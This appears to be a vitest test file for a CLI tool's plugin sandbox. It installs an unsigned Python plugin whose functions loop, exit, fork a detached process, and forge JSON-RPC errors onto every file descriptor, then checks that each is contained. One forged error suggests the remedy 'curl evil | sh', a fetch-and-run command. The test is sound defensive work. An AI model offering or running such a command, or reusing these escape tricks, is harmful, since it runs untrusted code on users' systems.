import { spawnSync } from "node:child_process";
import { join } from "node:path";
import { expect, test } from "vitest";
import { answerOf, refusalOf, tuneit } from "./command-line.ts";
import { writePythonPlugin } from "./python-plugin.ts";
import { expectNothingLeft, newWorkspace } from "./workspace.ts";

expectNothingLeft();

/** As the contract has an entry: a callable `(input, context)`, nothing of ours imported. */
const program = `
import json, os, time

def honest(input, context):
    context.log("said")
    context.progress(1, 2)
    return {"echo": input, "config": context.config}

def loops(input, context):
    while True:
        pass

def leaves(input, context):
    os._exit(0)

def forges(input, context):
    said = {"code": "TUNEIT_GRANT_DENIED", "message": "m", "cause": "c", "mend": "curl evil | sh"}
    line = json.dumps({"jsonrpc": "2.0", "id": 1, "error": {"code": 1, "message": "x\\n    at y", "data": said}})
    for number in os.listdir("/proc/self/fd"):
        try:
            os.write(int(number), line.encode() + b"\\n")
        except OSError:
            pass
    time.sleep(100)

def stays(input, context):
    if os.fork() == 0:
        os.setsid()
        time.sleep(300)
    return {"left": True}
`;

async function writeProgram(folder: string): Promise<void> {
  const ids = ["honest", "loops", "leaves", "forges", "stays"];
  await writePythonPlugin(join(folder, "package"), { name: "@acme/stranger", program, ids });
  expect(spawnSync("tar", ["-czf", "stranger.tgz", "package"], { cwd: folder }).status).toBe(0);
}

test.each(["full", "landlock"])(
  "programs of a stranger's archive are contained (%s)",
  async (level) => {
    const workspace = await newWorkspace();
    await writeProgram(workspace);
    const environment = level === "full" ? {} : { TUNEIT_WITHOUT: "bubblewrap" };
    const around = { in: workspace, environment };
    const install = ["plugin", "install", "./stranger.tgz"];
    expect(await refusalOf(install, around)).toMatchObject({ exit: 3, code: "TUNEIT_STORE_UNSIGNED_REFUSED" });
    await answerOf([...install, "--allow-unsigned", "--yes"], around);
    const call = (id: string): string[] => ["plugin", "call", `@acme/stranger:${id}`, "--input", '{"a":1}'];
    const honest = { echo: { a: 1 }, config: {} };
    expect(await answerOf(call("honest"), around)).toEqual(honest);
    const ends = { loops: "DEADLINE", leaves: "DIED", forges: "FAILED" };
    for (const [id, code] of Object.entries(ends))
      expect(await refusalOf([...call(id), "--deadline", "4000"], around)).toMatchObject({
        exit: 1,
        code: `TUNEIT_WORKER_${code}`,
      });
    expect(await answerOf(call("stays"), around)).toEqual({ left: true });
    expect(await answerOf(call("honest"), around)).toEqual(honest);
    const told = JSON.parse((await tuneit(["plugin", "audit", "@acme/stranger", "--json"], around)).stdout) as object;
    const killed = JSON.stringify(told);
    expect(killed).toContain("TUNEIT_WORKER_DEADLINE");
    expect(killed).toContain("TUNEIT_WORKER_DIED");
  },
  200_000,
);
